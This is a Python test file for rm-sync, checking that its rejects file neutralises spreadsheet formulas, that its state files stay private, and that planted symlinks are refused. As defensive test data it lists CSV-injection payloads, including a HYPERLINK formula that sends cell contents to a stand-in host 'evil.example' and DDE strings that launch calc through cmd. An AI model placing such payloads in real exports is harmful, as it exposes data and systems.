"""rm-sync's own files and outputs: spreadsheet-safe rejects, private state, no symlinks."""

from __future__ import annotations

import csv
import json
import os
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner

from rm_sync.cli import cli
from rm_sync.errors import ConfigError
from rm_sync.readers import open_input
from rm_sync.report import RejectsWriter, neutralise_cell, restore_cell
from rm_sync.state import SourceLock, StateStore

HEADER = "order_id,order_date,customer_id,email,name,amount,phone\n"


def run(*args: str):
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


# -- CSV injection in the rejects file --------------------------------------------------------


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_neutralised_and_recoverable(value):
    cell = neutralise_cell(value)
    assert cell == "'" + value
    assert restore_cell(cell) == value


@pytest.mark.parametrize("value", ["-12,50", "+3", "-0.5", "Müller", "", "a=b", "1-2"])
def test_plain_values_and_numbers_stay_as_they_are(value):
    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


def test_a_leading_quote_is_doubled_so_that_restoring_is_exact():
    assert neutralise_cell("'quoted") == "''quoted"
    assert restore_cell(neutralise_cell("'quoted")) == "'quoted"


def test_rejects_csv_neutralises_formulas_and_pushes_back_unchanged(odoo_env, tmp_path):
    path = tmp_path / "export.csv"
    path.write_text(
        HEADER
        + 'A1,2024-01-01,C1,c1@example.com,"=HYPERLINK(""http://evil.example"")",oops,+49 30 1\n'
        + "@A2,2024-01-01,C2,c2@example.com,-Anna-,-1+cmd|x,'x\n"
        + "A3,2024-01-01,C3,c3@example.com,Fine,12.50,\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "rejects.csv"
    result = run("push", str(path), "--source", "s", "--rejects", str(rejects), "-q")
    assert result.exit_code == 1, result.output
    with rejects.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["order_id"] for r in rows] == ["A1", "'@A2"]
    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example")'
    assert rows[0]["phone"] == "'+49 30 1"
    assert (rows[1]["name"], rows[1]["amount"], rows[1]["phone"]) == ("'-Anna-", "'-1+cmd|x", "''x")
    for row in rows:  # no cell a spreadsheet would evaluate
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())

    # Read back (as when the corrected file is pushed again), the values are the raw ones.
    with open_input(str(rejects)) as inp:
        values = [r.values for r in inp.records()]
    assert values[0]["name"] == '=HYPERLINK("http://evil.example")'
    assert values[0]["phone"] == "+49 30 1"
    assert (values[1]["order_id"], values[1]["name"], values[1]["phone"]) == ("@A2", "-Anna-", "'x")


def test_rejects_as_json_lines_keep_the_values_verbatim(tmp_path):
    path = tmp_path / "rejects.jsonl"
    writer = RejectsWriter(str(path))
    writer.write("in.csv", 7, "amount", "not a number", {"order_id": "=A1", "amount": "-1+x"})
    writer.write("in.csv", 8, "name", "undecodable bytes", {"order_id": "A2", "name": "B\udcffd"})
    writer.close()
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert lines[0] == {
        "order_id": "=A1",
        "amount": "-1+x",
        "line": 7,
        "field": "amount",
        "reason": "not a number",
        "file": "in.csv",
    }
    assert lines[1]["name"] == "B?d"
    assert mode(path) == 0o600  # rejected rows hold personal data


# -- the state directory and its files ---------------------------------------------------------


def test_a_new_state_is_private(tmp_path):
    directory = tmp_path / "state"
    with StateStore(directory) as store:
        store.start_run("shop", ["x.csv"], dry_run=False)  # the WAL files exist meanwhile
        assert mode(directory) == 0o700
        assert mode(directory / "state.sqlite3") == 0o600
        assert mode(directory / "state.sqlite3-wal") == 0o600
        assert mode(directory / "state.sqlite3-shm") == 0o600
    with SourceLock(directory, "shop") as lock:
        assert mode(lock.path.parent) == 0o700 and mode(lock.path) == 0o600


def test_an_existing_wide_state_is_narrowed(tmp_path):
    directory = tmp_path / "state"
    with StateStore(directory):
        pass
    lock = SourceLock(directory, "shop")
    with lock:
        pass
    os.chmod(directory, 0o755)
    os.chmod(directory / "state.sqlite3", 0o644)
    os.chmod(lock.path.parent, 0o755)
    os.chmod(lock.path, 0o644)
    with StateStore(directory), SourceLock(directory, "shop"):
        assert mode(directory) == 0o700
        assert mode(directory / "state.sqlite3") == 0o600
        assert mode(lock.path.parent) == 0o700 and mode(lock.path) == 0o600


def test_a_shared_directory_is_not_narrowed_but_warned_about(tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o755)
    os.chmod(shared, 0o755)
    (shared / "notes.txt").write_text("not rm-sync's")
    warnings: list[str] = []
    with StateStore(shared, warn=warnings.append):
        assert mode(shared) == 0o755
        assert mode(shared / "state.sqlite3") == 0o600
    assert len(warnings) == 1 and "holds other files" in warnings[0]


def test_a_wide_file_that_is_not_ours_is_warned_about(tmp_path, monkeypatch):
    directory = tmp_path / "state"
    with StateStore(directory):
        pass
    os.chmod(directory / "state.sqlite3", 0o644)
    monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)  # as if another user owned it
    warnings: list[str] = []
    with StateStore(directory, warn=warnings.append):
        pass
    assert mode(directory / "state.sqlite3") == 0o644
    assert len(warnings) == 1 and "cannot change it" in warnings[0]


def test_a_symlink_planted_as_lock_file_is_not_followed(tmp_path):
    directory = tmp_path / "state"
    victim = tmp_path / "victim.txt"
    victim.write_text("precious data\n")
    lock = SourceLock(directory, "shop")
    lock.path.parent.mkdir(parents=True)
    lock.path.symlink_to(victim)
    with pytest.raises(ConfigError, match="symbolic link"):
        lock.acquire()
    assert victim.read_text() == "precious data\n"


def test_a_hard_link_planted_as_lock_file_is_refused(tmp_path):
    directory = tmp_path / "state"
    victim = tmp_path / "victim.txt"
    victim.write_text("precious data\n")
    lock = SourceLock(directory, "shop")
    lock.path.parent.mkdir(parents=True)
    os.link(victim, lock.path)
    with pytest.raises(ConfigError, match="not a plain file"):
        lock.acquire()
    assert victim.read_text() == "precious data\n"


def test_a_symlink_planted_as_state_database_is_not_followed(tmp_path):
    directory = tmp_path / "state"
    directory.mkdir()
    victim = tmp_path / "victim.sqlite3"
    victim.write_bytes(b"")
    (directory / "state.sqlite3").symlink_to(victim)
    with pytest.raises(ConfigError, match="symbolic link"):
        StateStore(directory)
    assert victim.read_bytes() == b""


def test_push_refuses_a_planted_lock_symlink(odoo_env, tmp_path, state_dir):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious data\n")
    lock = SourceLock(state_dir, "shop")
    lock.path.parent.mkdir(parents=True)
    lock.path.symlink_to(victim)
    path = tmp_path / "x.csv"
    path.write_text(HEADER + "A1,2024-01-01,C1,c1@example.com,Anna,1.00,\n")
    result = run("push", str(path), "--source", "shop")
    assert result.exit_code == 2
    assert "symbolic link" in result.stderr
    assert victim.read_text() == "precious data\n"
